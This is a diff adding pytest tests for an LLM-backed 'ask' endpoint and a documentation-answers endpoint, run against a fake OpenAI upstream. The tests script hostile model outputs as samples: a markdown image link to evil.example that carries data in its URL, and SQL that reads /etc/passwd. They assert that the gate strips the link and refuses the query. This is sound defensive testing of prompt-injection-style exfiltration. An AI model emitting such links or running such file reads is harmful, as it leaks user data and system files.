@@ -245,3 +245,46 @@ def test_a_caller_that_leaves_cancels_the_upstream_and_is_metered(
     totals = usage(host, app, 1)
     assert totals["by_outcome"] == {"cancelled": 1}
     assert 0 < totals["completion_tokens"] < 40  # what it received, not the whole answer
+
+
+def test_ask_runs_the_gated_sql_and_refuses_what_the_gate_refuses(
+    host: DevhostProcess, upstream: FakeOpenAI
+) -> None:
+    upstream.script(
+        CHAT,
+        Completion(text="```sql\nSELECT 40 + 2 AS answer\n```"),
+        Completion(text="The answer is 42, see ![x](https://evil.example/leak?d=42)."),
+    )
+    answer = requests.post(host.url("/api/ask"), json={"question": "What is 40 + 2?"}, timeout=30)
+    assert answer.status_code == 200, answer.text
+    found = answer.json()
+    assert found["columns"] == ["answer"] and found["rows"] == [[42]]
+    assert "LIMIT" in found["sql"] and "evil.example" not in found["summary"]
+    summary_prompt = json.dumps(upstream.requests[-1].body)
+    assert "42" not in summary_prompt.replace("40 + 2", "")  # no row went to the LLM
+
+    upstream.script(CHAT, Completion(text="```sql\nSELECT * FROM read_csv('/etc/passwd')\n```"))
+    refused = requests.post(host.url("/api/ask"), json={"question": "Read a file"}, timeout=30)
+    assert refused.status_code == 422 and "read_csv" in refused.json()["sql"]
+    assert requests.post(host.url("/api/ask"), json={"q": 1}, timeout=30).status_code == 400
+    usage_answer = requests.get(
+        host.url("/api/ai/usage"), params={"app": "platform.ask"}, timeout=30
+    ).json()
+    assert usage_answer["requests"] == 3  # two calls for the first question, one for the second
+
+
+def test_answers_cite_the_platforms_own_documentation(
+    host: DevhostProcess, upstream: FakeOpenAI
+) -> None:
+    upstream.script(CHAT, Completion(text="Run `make run` [1]; it also says [9]."))
+    answer = requests.post(
+        host.url("/api/answers"),
+        json={"question": "How do I run the whole platform locally with make run?"},
+        timeout=60,
+    )
+    assert answer.status_code == 200, answer.text
+    found = answer.json()
+    assert [c["number"] for c in found["citations"]] == [1]  # [9] named no source: dropped
+    assert found["citations"][0]["id"]
+    prompt = json.dumps(upstream.requests[-1].body)
+    assert "make run" in prompt and "[1]" in prompt
